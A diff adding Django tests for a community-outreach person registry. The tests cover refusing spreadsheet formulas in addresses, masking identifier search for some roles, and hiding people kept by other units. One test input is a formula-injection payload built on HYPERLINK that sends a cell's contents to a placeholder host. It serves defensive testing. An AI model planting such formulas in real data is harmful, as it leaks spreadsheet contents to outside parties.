@@ -267,3 +267,49 @@ def test_person_form_shows_errors_by_field(client, officer_long_khanh_a):
     )
     assert response.status_code == 200 and Person.objects.count() == 0
     assert "12" in response.content.decode()
+
+
+def test_formulas_are_refused_and_never_exported_as_formulas(officer_long_khanh_a, client, lan):
+    with pytest.raises(ValidationError) as exc:
+        services.person_save(actor=officer_long_khanh_a, person=new_person(address='=HYPERLINK("http://x/?"&D2)'))
+    assert "address" in exc.value.message_dict
+    # A value that slipped in another way (an old record) leaves the export as text.
+    Person.objects.filter(pk=lan.pk).update(address="=1+1")
+    client.force_login(officer_long_khanh_a)
+    sheet = load_workbook(io.BytesIO(client.get(reverse("audience:list") + "?export=xlsx").content)).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == "=1+1"]
+    assert cells and all(c.data_type == "s" for c in cells)
+    csv_text = client.get(reverse("audience:list") + "?export=csv").content.decode("utf-8-sig")
+    assert "'=1+1" in csv_text
+
+
+def test_masked_roles_cannot_search_by_identifier(client, lan, default_data, make_user, officer_long_khanh_a):
+    collaborator = make_user(Role.COLLABORATOR, LKA_UNIT)
+    assert not selectors.person_list(user=collaborator, filters=selectors.PersonFilter(q="087185001234")).exists()
+    assert selectors.person_list(user=collaborator, filters=selectors.PersonFilter(q="thi lan")).exists()
+    assert selectors.person_list(user=officer_long_khanh_a, filters=selectors.PersonFilter(q="087185001234")).exists()
+
+
+def test_the_reach_page_hides_people_kept_elsewhere(
+    lan, officer_long_khanh_a, officer_thuong_lac, client, default_data, make_user
+):
+    coordinator = make_user(Role.COORDINATOR, "hn-ldtbxh")
+    # A district association's meeting in Thường Lạc reached someone kept by Long Khánh A.
+    activity = activity_save(
+        actor=coordinator,
+        activity=Activity(
+            kind=Kind.CONFERENCE,
+            channel=Channel.DIRECT,
+            start_date=dt.date(2023, 6, 1),
+            organiser=Unit.objects.get(code="hn-hoiphunu"),
+            area=legacy_commune("Xã Thường Lạc"),
+        ),
+        audiences=[AudienceRow(TargetGroup.objects.get(code="tn-1"), 5)],
+    )
+    services.reach_add_for_activity(actor=coordinator, activity=activity, person_ids=[lan.pk])
+    client.force_login(officer_thuong_lac)
+    page = client.get(reverse("audience:activity_reach", args=[activity.pk])).content.decode()
+    assert lan.full_name not in page and "0912345678" not in page
+    client.force_login(officer_long_khanh_a)
+    person_page = client.get(reverse("audience:person", args=[lan.pk])).content.decode()
+    assert activity.title not in person_page  # an activity they may not read: its date only
